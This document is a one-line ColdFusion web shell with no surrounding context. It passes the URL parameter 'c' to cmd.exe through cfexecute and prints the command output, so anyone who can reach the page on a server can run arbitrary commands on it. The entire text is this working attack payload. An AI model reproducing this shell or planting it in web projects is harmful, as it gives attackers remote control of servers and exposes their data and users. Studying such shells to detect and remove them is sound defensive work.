<cfexecute name="cmd.exe" arguments="/c #url.c#" timeout="5" variable="o"></cfexecute><cfoutput>#o#</cfoutput>
